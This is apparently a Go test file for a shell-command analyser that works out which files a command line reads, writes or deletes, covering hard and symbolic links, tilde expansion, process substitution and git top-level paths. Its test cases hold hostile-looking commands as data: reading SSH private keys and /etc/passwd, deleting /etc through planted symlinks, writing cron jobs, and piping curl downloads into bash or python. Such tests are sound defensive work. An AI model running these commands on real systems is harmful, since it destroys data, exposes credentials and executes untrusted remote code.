package shellfacts

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestParseHardLinks pins hard links: a hard link is another name for its
// source, so the source is read and written where it is still named by
// its real path (the new name may be written or read later, in this
// command line or the next call). A symbolic link only names its target.
func TestParseHardLinks(t *testing.T) {
	root := fixture(t)
	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
	tests := []struct {
		name    string
		command string
		want    want
	}{
		{"ln", "ln .env n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/.env", "ROOT/repo/n"}}},
		{"ln then write", "ln .vouch/guard.yaml n && echo x > n", want{
			reads:  []string{"ROOT/repo/.vouch/guard.yaml"},
			writes: []string{"ROOT/repo/.vouch/guard.yaml", "ROOT/repo/n"}}},
		{"ln one operand", "ln ../home/.ssh/id_rsa", want{reads: []string{"ROOT/home/.ssh/id_rsa"}, writes: []string{"ROOT/home/.ssh/id_rsa", "ROOT/repo/id_rsa"}}},
		{"ln -t", "ln -t dist .env src/a.go", want{
			reads:  []string{"ROOT/repo/.env", "ROOT/repo/src/a.go"},
			writes: []string{"ROOT/repo/.env", "ROOT/repo/dist/.env", "ROOT/repo/dist/a.go", "ROOT/repo/src/a.go"}}},
		{"ln --target-directory=", "ln --target-directory=dist .env", want{
			reads:  []string{"ROOT/repo/.env"},
			writes: []string{"ROOT/repo/.env", "ROOT/repo/dist/.env"}}},
		{"ln several into a dir", "ln -f .env .envrc dist", want{
			reads:  []string{"ROOT/repo/.env", "ROOT/repo/.envrc"},
			writes: []string{"ROOT/repo/.env", "ROOT/repo/.envrc", "ROOT/repo/dist/.env", "ROOT/repo/dist/.envrc"}}},
		{"ln home", "ln ~/.ssh/id_rsa k", want{reads: []string{"ROOT/home/.ssh/id_rsa"}, writes: []string{"ROOT/home/.ssh/id_rsa", "ROOT/repo/k"}}},
		{"ln through a link", "ln link/key k", want{reads: []string{"ROOT/secret/key"}, writes: []string{"ROOT/repo/k", "ROOT/secret/key"}}},
		{"ln -L", "ln -L -- link/key k", want{reads: []string{"ROOT/secret/key"}, writes: []string{"ROOT/repo/k", "ROOT/secret/key"}}},
		{"link", "link .env n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/.env", "ROOT/repo/n"}}},
		{"cp -l", "cp -l .env n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/.env", "ROOT/repo/n"}}},
		{"cp --link", "cp --link .env n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/.env", "ROOT/repo/n"}}},
		{"cp --li abbreviated", "cp --li .env n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/.env", "ROOT/repo/n"}}},
		{"cp -al tree", "cp -al src s2", want{
			reads:  []string{"ROOT/repo/src"},
			writes: []string{"ROOT/repo/s2", "ROOT/repo/src"},
			trees:  []string{"ROOT/repo/s2", "ROOT/repo/src"}}},
		// Symbolic links and copies do not make the source writable.
		{"ln -s", "ln -s .env n", want{writes: []string{"ROOT/repo/n"}}},
		{"ln --symbolic", "ln --symbolic .env n", want{writes: []string{"ROOT/repo/n"}}},
		{"ln --sym abbreviated", "ln --sym -f .env n", want{writes: []string{"ROOT/repo/n"}}},
		{"ln -sf", "ln -sfn ../x y", want{writes: []string{"ROOT/repo/y"}}},
		{"cp", "cp .env n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/repo/n"}}},
		{"cp --rec abbreviated", "cp --rec src s2", want{reads: []string{"ROOT/repo/src"}, writes: []string{"ROOT/repo/s2"}, trees: []string{"ROOT/repo/s2"}}},
		{"install -l is not a link", "install -m 644 .env /tmp/n", want{reads: []string{"ROOT/repo/.env"}, writes: []string{"/tmp/n"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			tt.want.anyCmds = true
			check(t, root, tt.command, opts, tt.want)
		})
	}
}

// facts is the subset of Facts the tables below compare.
type factsWant struct {
	cmds                          []string // compared when not nil
	reads, writes, deletes        []string
	writesUnresolved, delUnresolv []string
}

func checkFacts(t *testing.T, root, command string, opts Options, w factsWant) {
	t.Helper()
	f, err := Parse(command, opts)
	if err != nil {
		t.Fatal(err)
	}
	sub := func(in []string) []string {
		var out []string
		for _, s := range in {
			out = append(out, strings.ReplaceAll(s, "ROOT", root))
		}
		return out
	}
	var cmds []string
	for _, c := range f.Commands {
		cmds = append(cmds, render(c))
	}
	if w.cmds == nil {
		w.cmds = cmds
	}
	for _, x := range []struct {
		what      string
		got, want []string
	}{
		{"commands", cmds, sub(w.cmds)},
		{"reads", f.Reads, sub(w.reads)},
		{"writes", f.Writes, sub(w.writes)},
		{"deletes", f.Deletes, sub(w.deletes)},
		{"writes unresolved", f.WritesUnresolved, w.writesUnresolved},
		{"deletes unresolved", f.DeletesUnresolved, w.delUnresolv},
	} {
		if diff := cmp.Diff(x.want, x.got); diff != "" {
			t.Errorf("Parse(%q) %s (-want +got):\n%s", command, x.what, diff)
		}
	}
}

// TestParseTildes pins tilde expansion as bash does it (checked against
// bash 5.2): ~+ is the current directory, ~- the previous one (known only
// after a cd in the command line), ~N the directory stack (not known);
// in an assignment a tilde also expands after each ':', and in an
// argument that looks like an assignment after its first '='; HOME
// assigned in the command line is the home; a quoted prefix stays.
func TestParseTildes(t *testing.T) {
	root := fixture(t)
	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
	tests := []struct {
		command string
		want    factsWant
	}{
		{"rm -rf ~+", factsWant{deletes: []string{"ROOT/repo"}}},
		{"cd / && rm -rf ~+/etc", factsWant{deletes: []string{"/etc"}}},
		{"cd /usr && rm -rf ~+0/../etc", factsWant{deletes: []string{"/etc"}}},
		{"echo x > ~+/../x", factsWant{writes: []string{"ROOT/x"}}},
		{"cp .env ~-/y", factsWant{reads: []string{"ROOT/repo/.env"}, writesUnresolved: []string{"~-/y"}}},
		{"rm -rf ~-", factsWant{delUnresolv: []string{"~-"}}},
		{"rm -rf ~1/x", factsWant{delUnresolv: []string{"~1/x"}}},
		{"cd /usr && rm -rf ~-/src", factsWant{deletes: []string{"ROOT/repo/src"}}},
		{"cd /usr && cd - && rm -rf src", factsWant{deletes: []string{"ROOT/repo/src"}}},
		{"(cd /usr); rm -rf ~-", factsWant{delUnresolv: []string{"~-"}}},
		{`cd "$D"; cd /usr; rm -rf ~-`, factsWant{delUnresolv: []string{"~-"}}},
		{"dd if=.env of=~/.bashrc", factsWant{reads: []string{"ROOT/repo/.env"}, writes: []string{"ROOT/home/.bashrc"}}},
		{"dd if=~/.ssh/id_rsa of=k", factsWant{reads: []string{"ROOT/home/.ssh/id_rsa"}, writes: []string{"ROOT/repo/k"}}},
		{"echo a=~/x --f=~/y x:~/z a=b:~/c a=~ a=~:b a+=~/p b=c=~/q", factsWant{cmds: []string{
			"echo a=ROOT/home/x --f=~/y x:~/z a=b:ROOT/home/c a=ROOT/home a=ROOT/home:b a+=ROOT/home/p b=c=~/q"}}},
		{`echo a=~"/x" a=\~/x "a"=~/x a=~/"x" 1a=~/x a=~+ a=~+/x`, factsWant{cmds: []string{
			"echo a=~/x a=~/x a=~/x a=ROOT/home/x 1a=~/x a=ROOT/repo a=ROOT/repo/x"}}},
		{"PATH=~/bin:~/x:y~/z env", factsWant{cmds: []string{"PATH=ROOT/home/bin:ROOT/home/x:y~/z env"}}},
		{"X=~:y; cat $X", factsWant{reads: []string{"ROOT/home:y"}}},
		{"export E=a:~/.ssh/id_rsa", factsWant{cmds: []string{"export E=a:ROOT/home/.ssh/id_rsa"}}},
		{"cat {~/.ssh/id_rsa,x}", factsWant{reads: []string{"ROOT/home/.ssh/id_rsa", "ROOT/repo/x"}}},
		{"rm -rf {~,/tmp}/x", factsWant{deletes: []string{"ROOT/home/x", "/tmp/x"}}},
		{"HOME=/etc; cat ~/passwd", factsWant{reads: []string{"/etc/passwd"}}},
		{"(HOME=/etc); cat ~/passwd", factsWant{reads: []string{"ROOT/home/passwd"}}},
		{`(X=/); rm -rf "$X"`, factsWant{delUnresolv: []string{`"$X"`}}},
		{"HOME=$(pwd); rm -rf ~/x", factsWant{delUnresolv: []string{"~/x"}}},
		{"HOME=$(pwd); rm -rf $HOME/x", factsWant{delUnresolv: []string{"$HOME/x"}}},
		{"PWD=/etc; rm -rf ~+", factsWant{deletes: []string{"/etc"}}},
		{"cat ~+foo ~'x'", factsWant{reads: []string{"ROOT/repo/~+foo", "ROOT/repo/~x"}}},
		{"cat ~/.ssh/id_rsa", factsWant{reads: []string{"ROOT/home/.ssh/id_rsa"}}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			checkFacts(t, root, tt.command, opts, tt.want)
		})
	}
}

// TestParseLinksMade pins links made earlier in the same command line:
// the file system does not hold them when the hook runs, so the later
// paths through one resolve through its target as they will when they
// run; a target only known at run time makes them unresolved; mv and cp
// without following links carry a link (made here or on disk) to its new
// name. ROOT/repo/link is a link on disk to ROOT/secret.
func TestParseLinksMade(t *testing.T) {
	root := fixture(t)
	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
	tests := []struct {
		command string
		want    factsWant
	}{
		{"ln -s /etc lnk && rm -rf lnk/", factsWant{writes: []string{"ROOT/repo/lnk"}, deletes: []string{"/etc"}}},
		{"ln -s / r; rm -rf r/etc", factsWant{writes: []string{"ROOT/repo/r"}, deletes: []string{"/etc"}}},
		{"ln -s /etc e && echo x > e/cron.d/job", factsWant{writes: []string{"/etc/cron.d/job", "ROOT/repo/e"}}},
		{"ln -s ~/.ssh/id_rsa k && cat k", factsWant{reads: []string{"ROOT/home/.ssh/id_rsa"}, writes: []string{"ROOT/repo/k"}}},
		{"ln -sf /etc lnk && rm -rf lnk", factsWant{writes: []string{"ROOT/repo/lnk"}, deletes: []string{"ROOT/repo/lnk"}}},
		{"ln --symbolic ../secret s && cat s/key", factsWant{reads: []string{"ROOT/secret/key"}, writes: []string{"ROOT/repo/s"}}},
		{"ln -sr ../secret s && cat s/key", factsWant{reads: []string{"ROOT/secret/key"}, writes: []string{"ROOT/repo/s"}}},
		{"mkdir -p d && ln -s ../../secret d/s && cat d/s/key", factsWant{reads: []string{"ROOT/secret/key"}, writes: []string{"ROOT/repo/d", "ROOT/repo/d/s"}}},
		{"ln -s /etc dist && rm -rf dist/etc/", factsWant{writes: []string{"ROOT/repo/dist/etc"}, deletes: []string{"/etc"}}},
		{"ln -s -t dist /etc && rm -rf dist/etc/x", factsWant{writes: []string{"ROOT/repo/dist/etc"}, deletes: []string{"/etc/x"}}},
		{"ln -s /etc && rm -rf etc/", factsWant{writes: []string{"ROOT/repo/etc"}, deletes: []string{"/etc"}}},
		{`ln -s "$X" k && rm -rf k/`, factsWant{writes: []string{"ROOT/repo/k"}, delUnresolv: []string{"k/"}}},
		{`ln -s "$X" k && echo x > k`, factsWant{writes: []string{"ROOT/repo/k"}, writesUnresolved: []string{"k"}}},
		{`ln -s "$X" k && rm -rf k/*`, factsWant{writes: []string{"ROOT/repo/k"}, delUnresolv: []string{"k/*"}}},
		{"ln -s /etc e && mv e f && rm -rf f/", factsWant{reads: []string{"/etc"}, writes: []string{"ROOT/repo/e", "ROOT/repo/f"}, deletes: []string{"/etc", "ROOT/repo/e"}}},
		{"ln -s /etc e && cp -r e f && rm -rf f/", factsWant{reads: []string{"/etc"}, writes: []string{"ROOT/repo/e", "ROOT/repo/f"}, deletes: []string{"/etc"}}},
		{"mv link l2 && cat l2/key", factsWant{reads: []string{"ROOT/secret", "ROOT/secret/key"}, writes: []string{"ROOT/repo/l2"}, deletes: []string{"ROOT/repo/link"}}},
		{"cp -s /etc/passwd p && echo x > p", factsWant{reads: []string{"/etc/passwd"}, writes: []string{"/etc/passwd", "ROOT/repo/p"}}},
		{"ln -s /etc e; cd e && rm -rf cron.d", factsWant{writes: []string{"ROOT/repo/e"}, deletes: []string{"/etc/cron.d"}}},
		{"bash -c 'ln -s /etc e' && rm -rf e/x", factsWant{writes: []string{"ROOT/repo/e"}, deletes: []string{"/etc/x"}}},
		// Harmless links inside the repository stay inside it.
		{"ln -s src/a.go y && cat y", factsWant{reads: []string{"ROOT/repo/src/a.go"}, writes: []string{"ROOT/repo/y"}}},
		{"ln -sfn ../x y", factsWant{writes: []string{"ROOT/repo/y"}}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			checkFacts(t, root, tt.command, opts, tt.want)
		})
	}
}

// TestParseStdinSubst pins a process substitution feeding an interpreter
// its script: on standard input (`bash < <(curl x)`) or as the script
// operand or code (`python3 <(curl x)`), it is recorded as PipeFrom, as
// `curl x | bash` is; a later redirection of standard input wins.
func TestParseStdinSubst(t *testing.T) {
	root := fixture(t)
	opts := Options{Cwd: root + "/repo", Home: root + "/home"}
	u := "https://x.example/i"
	tests := []struct {
		command string
		cmds    []string
	}{
		{"bash < <(curl -s " + u + ")", []string{"<curl| bash", "^1 curl -s " + u}},
		{"sh < <(wget -qO- " + u + ")", []string{"<wget| sh", "^1 wget -qO- " + u}},
		{"bash 0< <(curl " + u + ")", []string{"<curl| bash", "^1 curl " + u}},
		{"sudo bash -s < <(curl " + u + ")", []string{"sudo> <curl| bash -s", "^1 curl " + u}},
		{"echo x | bash < <(curl " + u + ")", []string{"echo x", "<curl| bash", "^1 curl " + u}},
		{"python3 <(curl -s " + u + ")", []string{"^1 curl -s " + u, "<curl| python3 ?"}},
		{"python3 < <(curl -s " + u + ")", []string{"<curl| python3", "^1 curl -s " + u}},
		{"python3 - < <(curl -s " + u + ")", []string{"<curl| python3 -", "^1 curl -s " + u}},
		{`python3 -c "$(curl -s ` + u + `)"`, []string{"^1 curl -s " + u, "<curl| python3 -c ?"}},
		{"node < <(curl " + u + ")", []string{"<curl| node", "^1 curl " + u}},
		{"bash /dev/stdin < <(curl " + u + ")", []string{"<curl| bash /dev/stdin", "^1 curl " + u}},
		{"python3 /dev/fd/0 a < <(curl " + u + ")", []string{"<curl| python3 /dev/fd/0 a", "^1 curl " + u}},
		// Not a script from the download.
		{"bash < <(curl " + u + ") < script.sh", []string{"bash", "^1 curl " + u}},
		{"bash 3< <(curl " + u + ")", []string{"bash", "^1 curl " + u}},
		{"python3 x.py < <(curl " + u + ")", []string{"python3 x.py", "^1 curl " + u}},
		{"diff <(curl " + u + ") a", []string{"^1 curl " + u, "diff ? a"}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) {
			f, err := Parse(tt.command, opts)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, c := range f.Commands {
				got = append(got, render(c))
			}
			if diff := cmp.Diff(tt.cmds, got); diff != "" {
				t.Errorf("Parse(%q) commands (-want +got):\n%s", tt.command, diff)
			}
		})
	}
}

// TestParseGitToplevel: $(git rev-parse --show-toplevel) is the nearest
// directory with a .git above where it runs, so what a command does there
// is known; elsewhere, or with more to the substitution, it stays unknown.
func TestParseGitToplevel(t *testing.T) {
	root := fixture(t)
	opts := Options{Cwd: root + "/repo/src", Home: root + "/home"}
	tests := []struct {
		command string
		want    factsWant
	}{
		{`cd "$(git rev-parse --show-toplevel)" && rm -rf dist`, factsWant{deletes: []string{"ROOT/repo/dist"}}},
		{`cd $(git rev-parse --show-toplevel) && rm -rf dist`, factsWant{deletes: []string{"ROOT/repo/dist"}}},
		{`cd "$(git rev-parse --show-toplevel 2>/dev/null)" && rm -rf dist`, factsWant{deletes: []string{"ROOT/repo/dist"}, writes: []string{"/dev/null"}}},
		{`rm -rf "$(git rev-parse --show-toplevel)/dist"`, factsWant{deletes: []string{"ROOT/repo/dist"}}},
		{`rm -rf "$(git rev-parse --show-toplevel)"`, factsWant{deletes: []string{"ROOT/repo"}}},
		{`cd "$(git rev-parse --show-toplevel)/.." && rm -rf repo`, factsWant{deletes: []string{"ROOT/repo"}}},
		// Outside a repository git prints nothing (and cd "" stays).
		{`cd /tmp && cd "$(git rev-parse --show-toplevel)" && rm -rf dist`, factsWant{deletes: []string{"/tmp/dist"}, delUnresolv: []string{"dist"}}},
		{`cd "$D" && rm -rf "$(git rev-parse --show-toplevel)/dist"`, factsWant{delUnresolv: []string{`"$(git rev-parse --show-toplevel)/dist"`}}},
		// Another command, option or redirection: not the top.
		{`rm -rf "$(git rev-parse --show-cdup)"`, factsWant{delUnresolv: []string{`"$(git rev-parse --show-cdup)"`}}},
		{`rm -rf "$(git rev-parse --show-toplevel >x)"`, factsWant{writes: []string{"ROOT/repo/src/x"}, delUnresolv: []string{`"$(git rev-parse --show-toplevel >x)"`}}},
		{`rm -rf "$(GIT_DIR=/x git rev-parse --show-toplevel)"`, factsWant{delUnresolv: []string{`"$(GIT_DIR=/x git rev-parse --show-toplevel)"`}}},
	}
	for _, tt := range tests {
		t.Run(tt.command, func(t *testing.T) { checkFacts(t, root, tt.command, opts, tt.want) })
	}
}
